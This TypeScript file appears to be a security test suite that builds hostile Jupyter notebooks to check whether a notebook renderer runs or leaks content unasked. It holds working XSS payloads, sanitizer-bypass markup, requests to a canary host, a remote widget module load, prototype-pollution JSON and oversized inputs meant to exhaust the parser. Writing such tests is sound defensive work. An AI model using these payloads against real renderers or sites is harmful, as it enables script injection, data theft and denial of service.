import { codeCell, dataOutput, markdownCell, notebook } from '../sample-files/notebook.ts';
import { type Attack, type AttackFacts, onlyInFull } from './attack.ts';
import { everything, inAttribute, scripted } from './payload.ts';

const attack = (what: string, content: (facts: AttackFacts) => string): Attack => ({
  what: `Notebook: ${what}`,
  file: 'attack.ipynb',
  content,
});
const output = (what: string, data: (facts: AttackFacts) => Readonly<Record<string, unknown>>): Attack =>
  attack(what, (facts) => notebook([codeCell('run', dataOutput(data(facts)))]));

/** Notebooks that want to run without being asked. */
export const NOTEBOOK_ATTACKS: readonly Attack[] = [
  output('a script as output', (facts) => ({
    'application/javascript': everything(facts),
    'text/javascript': everything(facts),
  })),
  output('a page with scripts as output', (facts) => ({
    'text/html': `${scripted(facts)}<img src="x:" onerror="${inAttribute(facts)}"><iframe srcdoc="<script>parent.parent.localStorage.stolen=1</script>"></iframe>`,
  })),
  output('a page that looks elsewhere', ({ canary }) => ({
    'text/html': `<meta http-equiv="refresh" content="0; url=${canary.url}/refresh"><base href="${canary.url}/"><link rel="stylesheet" href="${canary.url}/style"><link rel="preconnect" href="${canary.url}"><img src="${canary.url}/img"><style>@import '${canary.url}/import'; body { background: url(${canary.url}/background) }</style><form action="${canary.url}/form"><input autofocus onfocus="form.submit()"></form><video poster="${canary.url}/poster" src="${canary.url}/video"></video>`,
  })),
  output('a page that escapes its cleaning', ({ canary }) => ({
    'text/html': `<noscript><p title="</noscript><img src=${canary.url}/img onerror=localStorage.stolen=1>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${canary.url}/mglyph onerror=localStorage.stolen=1&gt;">`,
  })),
  output('a picture that is a script', (facts) => ({
    'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg"><script>${everything(facts).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><image href="${facts.canary.url}/image"/></svg>`,
  })),
  output('a picture that ends its element', (facts) => ({
    'image/png': `"><img src="x:" onerror="${inAttribute(facts)}">`,
    'text/plain': `"><script>localStorage.stolen=1</script>`,
  })),
  onlyInFull(
    output('formulas', ({ canary }) => ({
      'text/latex': `$\\href{javascript:localStorage.stolen=1}{x}\\includegraphics{${canary.url}/image}$`,
    })),
  ),
  onlyInFull(output('signs of formulas', () => ({ 'text/latex': `x${'$'.repeat(200_000)}x` }))),
  onlyInFull(
    output('Markdown', (facts) => ({
      'text/markdown': `${scripted(facts)}\n\n[x](javascript:localStorage.stolen=1) ![x](${facts.canary.url}/image)`,
    })),
  ),
  attack('widgets and their state', (facts) =>
    notebook(
      [
        codeCell(
          'w',
          dataOutput({ 'application/vnd.jupyter.widget-view+json': { model_id: 'm', version_major: 2 } }),
        ),
      ],
      {
        widgets: {
          'application/vnd.jupyter.widget-state+json': {
            state: {
              m: {
                model_name: 'HTMLModel',
                model_module: `${facts.canary.url}/module.js`,
                state: { value: scripted(facts) },
              },
            },
          },
        },
      },
    ),
  ),
  attack('Markdown cells', (facts) =>
    notebook([
      markdownCell(
        `${scripted(facts)}<img src=x: onerror="${inAttribute(facts)}">\n\n![a](attachment:a) [b](javascript:localStorage.stolen=1)`,
        {
          attachments: {
            a: { 'image/x" onerror="localStorage.stolen=1': 'x', 'text/html': scripted(facts) },
          },
        },
      ),
    ]),
  ),
  attack(
    'an object that changes all objects',
    () =>
      `{"cells": [{"cell_type": "code", "source": "x", "outputs": [], "__proto__": {"cell_type": "markdown"}}], "__proto__": {"stolen": 1}, "metadata": {"language_info": {"name": "__proto__"}}}`,
  ),
  onlyInFull(
    attack('cells without end', () =>
      notebook(
        Array.from({ length: 50_000 }, () =>
          codeCell('x', { output_type: 'stream', name: 'stdout', text: 'y' }),
        ),
      ),
    ),
  ),
  onlyInFull(
    attack('pages without end', () =>
      notebook(Array.from({ length: 2000 }, () => codeCell('x', dataOutput({ 'text/html': '<p>x</p>' })))),
    ),
  ),
  onlyInFull(
    attack('deep outputs', () => {
      const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
      return `{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"output_type": "display_data", "data": {"application/json": ${deep}}}]}]}`;
    }),
  ),
  onlyInFull(
    attack('tags without end', () =>
      notebook([codeCell('x', dataOutput({ 'text/html': '<a '.repeat(500_000) }))]),
    ),
  ),
];
